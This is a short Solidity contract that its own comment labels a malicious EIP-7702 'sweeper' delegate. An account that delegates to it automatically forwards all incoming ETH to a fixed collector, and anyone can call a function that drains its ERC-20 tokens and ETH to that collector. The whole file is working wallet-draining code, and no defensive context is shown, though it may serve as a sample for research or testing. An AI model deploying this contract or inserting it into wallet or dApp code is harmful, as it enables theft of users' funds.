// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

interface ISweepERC20 {
    function balanceOf(address) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// @notice MALICIOUS EIP-7702 delegate ("sweeper"): an EOA that delegates to this code forwards
/// every incoming ETH to the collector, and anyone can sweep its ERC-20 balances and ETH.
contract Sweeper7702 {
    address public immutable collector;

    constructor(address collector_) {
        collector = collector_;
    }

    receive() external payable {
        (bool ok,) = collector.call{value: address(this).balance}("");
        require(ok, "Sweeper7702: forward failed");
    }

    function sweep(address[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 bal = ISweepERC20(tokens[i]).balanceOf(address(this));
            if (bal > 0) {
                (bool ok, bytes memory ret) =
                    tokens[i].call(abi.encodeWithSelector(ISweepERC20.transfer.selector, collector, bal));
                require(ok && (ret.length == 0 || abi.decode(ret, (bool))), "Sweeper7702: token transfer failed");
            }
        }
        uint256 eth = address(this).balance;
        if (eth > 0) {
            (bool ok,) = collector.call{value: eth}("");
            require(ok, "Sweeper7702: forward failed");
        }
    }
}
